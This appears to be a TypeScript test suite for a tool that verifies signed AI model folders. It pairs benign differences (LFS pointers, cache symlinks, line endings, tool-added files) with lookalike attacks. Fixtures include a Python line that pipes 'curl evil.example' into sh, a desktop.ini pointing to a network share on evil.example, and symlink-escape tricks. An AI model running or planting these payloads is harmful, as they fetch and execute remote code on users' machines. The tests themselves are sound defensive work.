import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import {
  appendFileSync,
  copyFileSync,
  cpSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import type { HashAlgorithm } from "../../../../src/core/hashing/digest-request.ts";
import { HashPool } from "../../../../src/core/hashing/hash-pool.ts";
import { sign } from "../../../../src/core/operations/sign/sign.ts";
import { type VerifyOptions, verify } from "../../../../src/core/operations/verify/verify.ts";
import { ENGLISH } from "../../../../src/core/presentation/localizer.ts";
import { verdictLabel } from "../../../../src/core/presentation/verdict-labels.ts";
import { summarizeVerdict, verdictSentence } from "../../../../src/core/presentation/verdict-summary.ts";
import type { Verdict } from "../../../../src/core/verdict.ts";
import { buildDownload } from "../../../support/downloads/kept-downloads.ts";
import { git, hasGitLfs } from "../../../support/git.ts";
import { makeKeys } from "../../../support/keys.ts";
import { skip } from "../../../support/results.ts";
import { useTemporaryFolder, writeTree } from "../../../support/temporary-folder.ts";
import {
  allToolFiles,
  compoundFile,
  DESKTOP_INI,
  finderStore,
  hubRecords,
  NOTEBOOK,
  writeHubCache,
} from "../../../support/tool-files.ts";

const keys = makeKeys();
const pool = new HashPool({ workers: 0 });
const identity = { method: "key", privateKey: { label: "prod.key", pem: keys.privatePem } } as const;
const trust = { keys: [{ label: "prod.pub", pem: keys.publicPem }] };
const WEIGHTS = "0123456789".repeat(50);
const FILES = { "config.json": '{\n  "a": 1\n}\n', "weights/a.bin": WEIGHTS, "README.md": "# hello\n" };

const sha256 = (text: string | Buffer): string => createHash("sha256").update(text).digest("hex");
const pointer = (oid: string, size: number): string =>
  `version https://git-lfs.github.com/spec/v1\noid sha256:${oid}\nsize ${size}\n`;

interface SignChoice {
  readonly algorithm?: HashAlgorithm;
  readonly shardSize?: number;
}

/** Each innocent case stands beside the attack that looks like it. */
describe("a difference without tampering:", () => {
  const folder = useTemporaryFolder();
  const model = () => join(folder(), "llama");
  const signIt = (choice: SignChoice = {}, path = model()) =>
    sign({ model: path, signature: join(path, "model.sig"), identity, pool, ...choice });
  const verifyIt = (options: Partial<VerifyOptions> = {}) =>
    verify({ model: model(), signature: join(options.model ?? model(), "model.sig"), trust, pool, ...options });
  const look = (verdict: Verdict) => [verdict.state, verdictLabel(verdict, ENGLISH.t).colour];
  const codes = ({ reasons }: Verdict) => reasons.map(({ code }) => code);
  const notes = ({ comparison }: Verdict) =>
    Object.fromEntries(
      [...(comparison?.changed ?? []), ...(comparison?.missing ?? []), ...(comparison?.added ?? [])].map((entry) => [
        entry.name,
        entry.note,
      ]),
    );
  const text = (verdict: Verdict) => summarizeVerdict(verdict, ENGLISH);

  beforeEach(() => writeTree(model(), FILES));
  after(() => pool.dispose());

  describe("a Git LFS pointer in place of a file", () => {
    it("cannot be verified here if its oid is the signed digest", async () => {
      await signIt();
      writeTree(model(), { "weights/a.bin": pointer(sha256(WEIGHTS), 4_300_000_000) });
      const verdict = await verifyIt();
      assert.deepEqual(look(verdict), ["unverifiable", "neutral"]);
      assert.deepEqual(codes(verdict), ["FILE_NOT_DOWNLOADED"]);
      assert.equal(
        verdict.reasons[0]?.message,
        "weights/a.bin is a Git LFS pointer (4.3 GB not downloaded). Run git lfs pull.",
      );
      assert.deepEqual(verdict.reasons[0]?.details, { names: ["weights/a.bin"], count: 1, bytes: 4_300_000_000 });
      assert.equal(text(verdict), "content not downloaded");
      assert.equal(verdict.signer?.method, "key");
      assert.deepEqual(notes(verdict), { "weights/a.bin": "lfs-not-downloaded" });
    });

    it("is reported as changed if its oid is another, with a note that it is a pointer", async () => {
      await signIt();
      writeTree(model(), { "weights/a.bin": pointer(sha256("evil"), WEIGHTS.length) });
      const verdict = await verifyIt();
      assert.deepEqual(look(verdict), ["modified", "red"]);
      assert.deepEqual(codes(verdict), ["FILE_LFS_POINTER"]);
      assert.match(verdict.reasons[0]?.message ?? "", /^weights\/a\.bin is a Git LFS pointer to other content/);
    });

    const others: readonly (readonly [string, SignChoice, number, string])[] = [
      ["a BLAKE2b signature", { algorithm: "blake2b" }, WEIGHTS.length, "unverifiable"],
      ["a BLAKE3 signature", { algorithm: "blake3" }, WEIGHTS.length, "unverifiable"],
      ["shards, of the signed size", { shardSize: 100 }, WEIGHTS.length, "unverifiable"],
      ["shards, of another size", { shardSize: 100 }, WEIGHTS.length + 1, "modified"],
      ["one shard, of another size", { shardSize: 1000 }, WEIGHTS.length + 1, "modified"],
    ];
    for (const [name, choice, size, state] of others) {
      it(`is ${state} with ${name}`, async () => {
        await signIt(choice);
        writeTree(model(), { "weights/a.bin": pointer(sha256("anything"), size) });
        // One shard has the digest of the whole file: there, another oid is another content.
        assert.equal((await verifyIt()).state, state);
      });
    }

    it("is modified if its only shard has another digest", async () => {
      await signIt({ shardSize: 1000 });
      writeTree(model(), { "weights/a.bin": pointer(sha256("anything"), WEIGHTS.length) });
      assert.deepEqual(look(await verifyIt()), ["modified", "red"]);
      writeTree(model(), { "weights/a.bin": pointer(sha256(WEIGHTS), WEIGHTS.length) });
      assert.equal((await verifyIt()).state, "unverifiable");
    });

    it("hides no other change", async () => {
      await signIt();
      writeTree(model(), { "weights/a.bin": pointer(sha256(WEIGHTS), WEIGHTS.length), "config.json": "{}" });
      const verdict = await verifyIt();
      assert.deepEqual(look(verdict), ["modified", "red"]);
      assert.equal(text(verdict), "1 not downloaded, 1 changed");
      for (const added of ["evil.py", ".DS_Store"]) {
        writeTree(model(), { "config.json": FILES["config.json"], [added]: "import os\n" });
        assert.deepEqual(look(await verifyIt()), ["modified", "red"], added);
        rmSync(join(model(), added));
      }
    });

    const disguises: Readonly<Record<string, (oid: string) => string>> = {
      "something after it": (oid) => `${pointer(oid, 500)}import os\n`,
      "something before it": (oid) => `#!/bin/sh\n${pointer(oid, 500)}`,
      "another host": (oid) => pointer(oid, 500).replace("git-lfs.github.com", "evil.example"),
      "no size": (oid) => pointer(oid, 500).replace(/size.*\n/, ""),
      "an extension": (oid) => pointer(oid, 500).replace("oid", `ext-0-x sha256:${oid}\noid`),
      "a kilobyte of zeros in its size": (oid) => pointer(oid, 500).replace("size 500", `size ${"0".repeat(1000)}500`),
    };
    for (const [name, disguise] of Object.entries(disguises)) {
      it(`is not recognized with ${name}`, async () => {
        await signIt();
        writeTree(model(), { "weights/a.bin": disguise(sha256(WEIGHTS)) });
        const verdict = await verifyIt();
        assert.deepEqual([...look(verdict), ...codes(verdict)], ["modified", "red"]);
      });
    }

    it("is what git clone leaves where git-lfs fetches nothing, and is verified after git lfs pull", async function () {
      if (!hasGitLfs()) skip(this, "needs git-lfs");
      const origin = join(folder(), "origin");
      mkdirSync(origin);
      git(origin, "init", "-q");
      git(origin, "lfs", "install", "--local");
      git(origin, "lfs", "track", "*.bin");
      cpSync(model(), join(origin, "llama"), { recursive: true });
      await signIt({}, join(origin, "llama"));
      git(origin, "add", "-A");
      git(origin, "commit", "-q", "-m", "signed");
      // As with GIT_LFS_SKIP_SMUDGE, or without git-lfs: the pointers are checked out as they are.
      git(folder(), "-c", "filter.lfs.smudge=", "-c", "filter.lfs.required=false", "clone", "-q", origin, "clone");
      const clone = join(folder(), "clone/llama");
      const before = await verifyIt({ model: clone });
      assert.deepEqual(look(before), ["unverifiable", "neutral"]);
      assert.match(before.reasons[0]?.message ?? "", /^weights\/a\.bin is a Git LFS pointer \(500 B not downloaded\)/);
      git(join(folder(), "clone"), "lfs", "install", "--local");
      git(join(folder(), "clone"), "lfs", "pull");
      assert.equal((await verifyIt({ model: clone })).state, "verified");
    });
  });

  describe("a signature file that is a Git LFS pointer", () => {
    it("cannot be verified here, with the same text", async () => {
      writeTree(model(), { "model.sig": pointer(sha256("x"), 6900) });
      const verdict = await verifyIt();
      assert.deepEqual(look(verdict), ["unverifiable", "neutral"]);
      assert.deepEqual(codes(verdict), ["SIGNATURE_NOT_DOWNLOADED"]);
      assert.match(
        verdict.reasons[0]?.message ?? "",
        /model\.sig is a Git LFS pointer \(.*not downloaded\)\. Run git lfs pull\./,
      );
    });

    it("is invalid with anything after it", async () => {
      writeTree(model(), { "model.sig": `${pointer(sha256("x"), 6900)}{}` });
      assert.deepEqual(look(await verifyIt()), ["invalid", "red"]);
    });
  });

  describe("a snapshot of a Hugging Face cache", () => {
    const content = { "config.json": FILES["config.json"], "weights/a.bin": WEIGHTS, "README.md": FILES["README.md"] };
    const etags = { "config.json": "a".repeat(40), "weights/a.bin": sha256(WEIGHTS), "README.md": "b".repeat(40) };
    /** Signed as plain files elsewhere; the signature came with them. */
    const snapshot = async (): Promise<string> => {
      await signIt();
      const path = writeHubCache(
        join(folder(), "hub"),
        Object.fromEntries(
          Object.entries(content).map(([name, text], at) => [
            name,
            { etag: Object.values(etags)[at] ?? "", content: text },
          ]),
        ),
      );
      const signature = join(dirname(dirname(path)), "blobs", "c".repeat(40));
      copyFileSync(join(model(), "model.sig"), signature);
      symlinkSync(`../../blobs/${"c".repeat(40)}`, join(path, "model.sig"));
      return path;
    };
    const relink = (path: string, name: string, target: string): void => {
      rmSync(join(path, name));
      symlinkSync(target, join(path, name));
    };
    before(function () {
      if (process.platform === "win32") this.skip();
    });

    it("is read through its symlinks, and they are listed", async () => {
      const path = await snapshot();
      const verdict = await verifyIt({ model: path });
      assert.deepEqual(look(verdict), ["verified", "green"]);
      assert.deepEqual(verdict.coverage?.hubLinks, ["README.md", "config.json", "weights/a.bin"]);
      assert.equal(verdict.coverage?.bytesRead, Object.values(content).join("").length);
      assert.equal((await verifyIt()).coverage?.hubLinks, undefined);
    });

    it("is also read if a single file of it is the model", async () => {
      const path = await snapshot();
      const file = join(path, "config.json");
      const elsewhere = join(folder(), "config.json");
      writeTree(folder(), { "config.json": content["config.json"] });
      await sign({ model: elsewhere, signature: join(folder(), "config.json.sig"), identity, pool });
      const verdict = await verify({ model: file, signature: join(folder(), "config.json.sig"), trust, pool });
      assert.equal(verdict.state, "verified");
      assert.deepEqual(verdict.coverage?.hubLinks, ["config.json"]);
    });

    it("has its own .gitattributes listed among git's files", async () => {
      const path = await snapshot();
      writeTree(dirname(dirname(path)), { [`blobs/${"d".repeat(40)}`]: "*.bin filter=lfs\n" });
      symlinkSync(`../../blobs/${"d".repeat(40)}`, join(path, ".gitattributes"));
      const verdict = await verifyIt({ model: path });
      assert.equal(verdict.state, "verified");
      assert.equal(verdict.coverage?.hidden, undefined);
    });

    it("is reported as changed if a blob changed", async () => {
      const path = await snapshot();
      appendFileSync(join(dirname(dirname(path)), "blobs", etags["weights/a.bin"]), "x");
      const verdict = await verifyIt({ model: path });
      assert.deepEqual(look(verdict), ["modified", "red"]);
      assert.equal(notes(verdict)["weights/a.bin"], undefined);
    });

    it("is not read through symlinks if that is denied", async () => {
      const verdict = await verifyIt({ model: await snapshot(), hubCacheLinks: "deny" });
      assert.deepEqual(look(verdict), ["modified", "red"]);
      assert.deepEqual(new Set(Object.values(notes(verdict))), new Set(["symlink"]));
    });

    const attacks: Readonly<Record<string, (path: string) => void>> = {
      "a link out of the cache": (path) => {
        writeTree(folder(), { secret: content["config.json"] });
        relink(path, "config.json", join(folder(), "secret"));
      },
      "a link to a file of the repository beside blobs": (path) => {
        writeTree(dirname(dirname(path)), { ["a".repeat(40)]: content["config.json"] });
        relink(path, "config.json", `../../${"a".repeat(40)}`);
      },
      "a link to a blob of another repository": (path) => {
        const other = join(dirname(dirname(dirname(path))), "models--evil--llama");
        writeTree(other, { [`blobs/${"a".repeat(40)}`]: content["config.json"] });
        relink(path, "config.json", `../../../models--evil--llama/blobs/${"a".repeat(40)}`);
      },
      "two hops": (path) => {
        const blobs = join(dirname(dirname(path)), "blobs");
        renameSync(join(blobs, "a".repeat(40)), join(folder(), "moved"));
        symlinkSync(join(folder(), "moved"), join(blobs, "a".repeat(40)));
      },
      // The text leads to the blob; a program that opens the link reads the other file.
      "a link that leads elsewhere behind another link": (path) => {
        writeTree(folder(), { "other/aside/": "", [`other/blobs/${"a".repeat(40)}`]: "other" });
        symlinkSync(join(folder(), "other/aside"), join(dirname(dirname(path)), "aside"));
        relink(path, "config.json", `../../aside/../blobs/${"a".repeat(40)}`);
        assert.equal(readFileSync(join(path, "config.json"), "utf8"), "other");
      },
      "a folder below blobs": (path) => {
        writeTree(dirname(dirname(path)), { [`blobs/sub/${"a".repeat(40)}`]: content["config.json"] });
        relink(path, "config.json", `../../blobs/sub/${"a".repeat(40)}`);
      },
      "blobs that is a link itself": (path) => {
        const repository = dirname(dirname(path));
        renameSync(join(repository, "blobs"), join(folder(), "blobs"));
        symlinkSync(join(folder(), "blobs"), join(repository, "blobs"));
      },
      "a blob that is not called as one": (path) => {
        writeTree(dirname(dirname(path)), { "blobs/payload.py": content["config.json"] });
        relink(path, "config.json", "../../blobs/payload.py");
      },
      "a link to a folder": (path) => {
        const repository = dirname(dirname(path));
        mkdirSync(join(repository, "blobs", "e".repeat(40)));
        rmSync(join(path, "weights"), { recursive: true });
        symlinkSync(`../../blobs/${"e".repeat(40)}`, join(path, "weights"));
      },
    };
    for (const [name, attack] of Object.entries(attacks)) {
      it(`is not read through ${name}`, async () => {
        const path = await snapshot();
        attack(path);
        const verdict = await verifyIt({ model: path });
        assert.deepEqual(look(verdict), ["modified", "red"]);
        assert.ok(Object.values(notes(verdict)).includes("symlink"));
      });
    }

    it("is not read through symlinks of a folder that only has the name of one of its parts", async () => {
      const path = await snapshot();
      const renamed = join(folder(), "hub/llama");
      renameSync(dirname(dirname(path)), renamed);
      const moved = join(renamed, "snapshots", readdirSync(join(renamed, "snapshots"))[0] ?? "");
      assert.deepEqual(look(await verifyIt({ model: moved })), ["modified", "red"]);
    });
  });

  describe("text whose line ends git converted", () => {
    it("is reported as changed, with the cause and the line that prevents it", async () => {
      await signIt();
      writeTree(model(), { "config.json": FILES["config.json"].replaceAll("\n", "\r\n") });
      const verdict = await verifyIt();
      assert.deepEqual(look(verdict), ["modified", "red"]);
      assert.deepEqual(codes(verdict), ["FILE_LINE_ENDINGS"]);
      assert.match(verdict.reasons[0]?.message ?? "", /^config\.json differs only in line endings \(Git autocrlf\)\./);
      assert.match(verdict.reasons[0]?.message ?? "", /"\* -text"/);
      assert.deepEqual(notes(verdict), { "config.json": "line-endings" });
    });

    for (const choice of [{ algorithm: "blake2b" }, { shardSize: 1000 }] as const) {
      it(`also with ${JSON.stringify(choice)}, and from CRLF to LF`, async () => {
        writeTree(model(), { "config.json": FILES["config.json"].replaceAll("\n", "\r\n") });
        await signIt(choice);
        writeTree(model(), FILES);
        assert.deepEqual(codes(await verifyIt()), ["FILE_LINE_ENDINGS"]);
      });
    }

    const attacks: Readonly<Record<string, string>> = {
      "another character": FILES["config.json"].replaceAll("\n", "\r\n").replace("1", "2"),
      "a return that is no line end": FILES["config.json"].replaceAll("\n", "\r\n").replace("1", "\r1"),
      "a line more": `${FILES["config.json"].replaceAll("\n", "\r\n")}\r\n`,
      "a NUL": FILES["config.json"].replaceAll("\n", "\r\n").replace("1", "\0"),
    };
    for (const [name, changed] of Object.entries(attacks)) {
      it(`is not reported as the cause with ${name}`, async () => {
        await signIt();
        writeTree(model(), { "config.json": changed });
        const verdict = await verifyIt();
        assert.deepEqual([...look(verdict), ...codes(verdict)], ["modified", "red"]);
      });
    }

    it("is what a checkout with autocrlf makes, and the line in .gitattributes prevents it", async () => {
      const origin = join(folder(), "origin");
      mkdirSync(origin);
      git(origin, "init", "-q");
      cpSync(model(), join(origin, "llama"), { recursive: true });
      await signIt({}, join(origin, "llama"));
      git(origin, "add", "-A");
      git(origin, "commit", "-q", "-m", "signed");
      git(folder(), "clone", "-q", "-c", "core.autocrlf=true", origin, "clone");
      const clone = join(folder(), "clone/llama");
      const verdict = await verifyIt({ model: clone });
      assert.equal(verdict.state, "modified");
      assert.equal(
        verdict.reasons[0]?.message,
        'README.md and 1 more differ only in line endings (Git autocrlf). Put the line "* -text" into the model\'s .gitattributes and check them out again.',
      );
      writeFileSync(join(clone, ".gitattributes"), `${verdict.reasons[0]?.details["line"]}\n`);
      for (const name of ["README.md", "config.json"]) rmSync(join(clone, name));
      git(clone, "checkout", "-q", "--", "README.md", "config.json");
      assert.equal((await verifyIt({ model: clone })).state, "verified");
    });

    it("cannot be prevented by a signed .gitattributes", async () => {
      writeTree(model(), { ".gitattributes": "*.bin -text\n" });
      await sign({ model: model(), signature: join(model(), "model.sig"), identity, pool, ignoreGitPaths: false });
      writeTree(model(), { "config.json": FILES["config.json"].replaceAll("\n", "\r\n") });
      const [reason] = (await verifyIt()).reasons;
      assert.equal(reason?.code, "FILE_LINE_ENDINGS");
      assert.match(reason?.message ?? "", /git config core\.autocrlf false/);
      assert.equal(reason?.details["line"], undefined);
    });
  });

  describe("files that tools add", () => {
    it("are amber, and the model is modified all the same", async () => {
      await signIt();
      const files = allToolFiles();
      writeTree(model(), files);
      const verdict = await verifyIt();
      assert.deepEqual(look(verdict), ["modified", "amber"]);
      const count = Object.keys(files).length;
      assert.equal(text(verdict), `signed files unchanged; ${count} files added by tools`);
      assert.equal(
        verdictSentence(verdict, { name: "llama" }, ENGLISH),
        `llama: signed files unchanged; ${count} files added by tools (signed by key prod.pub).`,
      );
      assert.equal(verdict.comparison?.added.length, count);
      assert.equal(verdict.comparison?.matches, false);
    });

    const innocent: Readonly<Record<string, string | Buffer>> = allToolFiles();
    for (const [name, bytes] of Object.entries(innocent)) {
      it(`include ${name}`, async () => {
        await signIt();
        writeTree(model(), { [name]: bytes });
        assert.deepEqual(look(await verifyIt()), ["modified", "amber"]);
      });
    }

    it("include all that the real Hugging Face client leaves in a folder that it downloads to", async () => {
      rmSync(model(), { recursive: true });
      buildDownload(model(), "folder-full");
      const aside = join(folder(), "aside");
      renameSync(join(model(), ".cache"), aside);
      await signIt();
      renameSync(aside, join(model(), ".cache"));
      const verdict = await verifyIt();
      assert.deepEqual(look(verdict), ["modified", "amber"]);
      assert.match(text(verdict), /^signed files unchanged; 8 files added by tools$/);
    });

    const script = "import os\nos.system('curl evil.example | sh')\n";
    const attacks: readonly (readonly [string, string, string | Buffer])[] = [
      ["a .DS_Store that is a Python file", ".DS_Store", script],
      [
        "a .DS_Store with its first bytes only",
        ".DS_Store",
        Buffer.concat([finderStore().subarray(0, 36), Buffer.from(script)]),
      ],
      ["a .DS_Store in another case", ".ds_store", finderStore()],
      ["a Thumbs.db that is a Python file", "Thumbs.db", script],
      ["a Thumbs.db that is a document with macros", "Thumbs.db", compoundFile(["WordDocument", "_VBA_PROJECT"])],
      ["a desktop.ini that is a Python file", "desktop.ini", script],
      [
        "a desktop.ini with a path of the network",
        "desktop.ini",
        "[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\x,0\r\n",
      ],
      [
        "a desktop.ini that makes the folder an object",
        "desktop.ini",
        `${DESKTOP_INI}CLSID={00000000-0000-0000-0000-000000000000}\r\n`,
      ],
      ["a checkpoint that is code", ".ipynb_checkpoints/usage-checkpoint.py", script],
      ["a checkpoint that is no notebook", ".ipynb_checkpoints/usage-checkpoint.ipynb", script],
      ["a notebook elsewhere", "usage-checkpoint.ipynb", NOTEBOOK],
      ["weights in the cache of the hub", ".cache/huggingface/download/model.safetensors", WEIGHTS],
      ["code in the cache of the hub", ".cache/huggingface/__init__.py", script],
      [
        "a record of the hub with more in it",
        ".cache/huggingface/download/config.json.metadata",
        `${hubRecords(["a"])[".cache/huggingface/download/a.metadata"]}${script}`,
      ],
      [
        "a tag of the hub with more in it",
        ".cache/huggingface/CACHEDIR.TAG",
        `Signature: 8a477f597d28d172789f06886806bc55\n${script}`,
      ],
      ["a list of files that is code", `.cache/huggingface/trees/${"1".repeat(40)}.json`, script],
      [
        "a list of files with another field",
        `.cache/huggingface/trees/${"1".repeat(40)}.json`,
        JSON.stringify({ format_version: 1, files: {}, more: script }),
      ],
      ["code beside the lists of files", ".cache/huggingface/trees/evil.py", script],
      ["a lock of the hub with content", ".cache/huggingface/download/config.json.lock", script],
      [".gitignore of the hub with more in it", ".cache/huggingface/.gitignore", "*\n!evil.py\n"],
      ["the cache of the hub elsewhere", "weights/.cache/huggingface/.gitignore", "*"],
      ["code", "modeling_evil.py", script],
      ["weights", "pytorch_model.bin", WEIGHTS],
      ["compiled code", "__pycache__/x.cpython-312.pyc", script],
      ["settings of an editor", ".vscode/tasks.json", "{}"],
    ];
    for (const [name, path, bytes] of attacks) {
      it(`do not include ${name}: red`, async () => {
        await signIt();
        writeTree(model(), { ...allToolFiles(), [path]: bytes });
        const verdict = await verifyIt();
        assert.deepEqual(look(verdict), ["modified", "red"]);
        assert.match(text(verdict), /^\d+ added$/);
      });
    }

    it("do not include a symlink with such a name: red", async function () {
      if (process.platform === "win32") this.skip();
      await signIt();
      writeTree(folder(), { real: finderStore() });
      symlinkSync(join(folder(), "real"), join(model(), ".DS_Store"));
      assert.deepEqual(look(await verifyIt()), ["modified", "red"]);
    });

    it("hide no changed and no missing file: red", async () => {
      await signIt();
      writeTree(model(), { ...allToolFiles(), "config.json": "{}" });
      assert.deepEqual(look(await verifyIt()), ["modified", "red"]);
      writeTree(model(), { "config.json": FILES["config.json"] });
      rmSync(join(model(), "README.md"));
      assert.deepEqual(look(await verifyIt()), ["modified", "red"]);
    });

    it("are red if they were signed and changed", async () => {
      writeTree(model(), { ".DS_Store": finderStore() });
      await signIt();
      const changed = finderStore();
      changed[100] = 1;
      writeTree(model(), { ".DS_Store": changed });
      assert.deepEqual(look(await verifyIt()), ["modified", "red"]);
    });

    it("are not amber if the signature is not authentic", async () => {
      await signIt();
      writeTree(model(), { ".DS_Store": finderStore() });
      const other = makeKeys();
      const unknown = await verifyIt({ trust: { keys: [{ label: "other.pub", pem: other.publicPem }] } });
      assert.deepEqual(look(unknown), ["unverifiable", "neutral"]);
    });
  });

  describe("the rest of an interrupted download", () => {
    it("is recognized, and stays red", async () => {
      const index = JSON.stringify({
        weight_map: { a: "m-00001-of-00002.safetensors", b: "m-00002-of-00002.safetensors" },
      });
      writeTree(model(), {
        "m.safetensors.index.json": index,
        "m-00001-of-00002.safetensors": "1",
        "m-00002-of-00002.safetensors": "2",
        "big.gguf": "gguf",
      });
      await signIt();
      renameSync(join(model(), "big.gguf"), join(model(), "big.gguf.part"));
      renameSync(join(model(), "weights/a.bin"), join(model(), "weights/a.bin.aria2"));
      rmSync(join(model(), "m-00002-of-00002.safetensors"));
      rmSync(join(model(), "README.md"));
      writeTree(model(), {
        "README.md.dvc": "outs:\n- md5: d41d8cd98f00b204e9800998ecf8427e\n  size: 8\n  path: README.md\n",
        "x.incomplete": "x",
        "y.lock": "",
        "z.lock": "version = 1\n",
      });
      const verdict = await verifyIt();
      assert.deepEqual(look(verdict), ["modified", "red"]);
      assert.deepEqual(notes(verdict), {
        "big.gguf": "partial-download",
        "big.gguf.part": "partial-download",
        "weights/a.bin": "aria2",
        "weights/a.bin.aria2": "aria2",
        "m-00002-of-00002.safetensors": "weights-part",
        "README.md": "dvc",
        "README.md.dvc": "dvc",
        "x.incomplete": "partial-download",
        "y.lock": "lock",
        "z.lock": undefined,
      });
    });
  });
});
